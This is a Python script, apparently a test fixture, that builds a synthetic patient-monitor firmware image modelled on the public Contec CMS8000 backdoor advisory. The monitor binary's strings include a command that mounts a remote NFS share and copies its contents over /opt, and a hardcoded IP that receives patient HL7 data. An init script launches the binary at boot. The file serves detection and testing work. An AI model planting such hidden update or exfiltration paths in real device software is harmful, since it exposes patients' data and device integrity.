"""A patient monitor after the public facts of the Contec CMS8000 case (CISA ICSMA-25-030-01, CVE-2025-0683).

Built by us from the published description; no byte of the vendor's firmware is in it. The monitor program holds the
mount command with 202.114.4.119 (software update) and sends patient data to 202.114.4.120; an init script starts it.
"""

from samples.build import squashfs, uimage
from tests.builders.elf import Elf

MONITOR = Elf(
    machine="arm",
    rodata=b"\0".join(
        [
            b"/dev/fb0",
            b"monitor: starting patient view",
            b"mount -o nolock 202.114.4.119:/pm /mnt",
            b"cp -rf /mnt/* /opt",
            b"umount /mnt",
            b"202.114.4.120",
            b"connect to central station failed: %s",
            b"PID|1||%s||%s^%s||%s|%c",
            b"OBX|%d|NM|HR^Heart rate||%d|bpm",
            b"OBX|%d|NM|SPO2^Oxygen saturation||%d|%%",
            b"",
        ]
    ),
    imports=("socket", "connect", "send", "inet_addr", "system", "pthread_create", "snprintf"),
    needed=("libpthread.so.0", "libc.so.6"),
)
TREE = {
    "/etc/inittab": (0o644, b"::sysinit:/etc/init.d/rcS\n::respawn:-/bin/sh\n::ctrlaltdel:/bin/umount -a -r\n"),
    "/etc/init.d/rcS": (
        0o755,
        (
            b"#!/bin/sh\n"
            b"mount -t proc none /proc\n"
            b"ifconfig lo 127.0.0.1\n"
            b"ifconfig eth0 192.168.1.50 netmask 255.255.255.0 up\n"
            b"/opt/bin/monitor &\n"
        ),
    ),
    "/etc/hostname": (0o644, b"patient-monitor\n"),
    "/etc/fstab": (0o644, b"proc /proc proc defaults 0 0\n"),
    "/opt/bin/monitor": (0o755, MONITOR.build()),
    "/opt/share/version": (0o644, b"software 2.0.6\nbuilt sample, not vendor firmware\n"),
}


def build() -> bytes:
    """Return the image: a uImage around a squashfs root."""
    return uimage("patient-monitor rootfs", squashfs(TREE), architecture=2, kind=7)
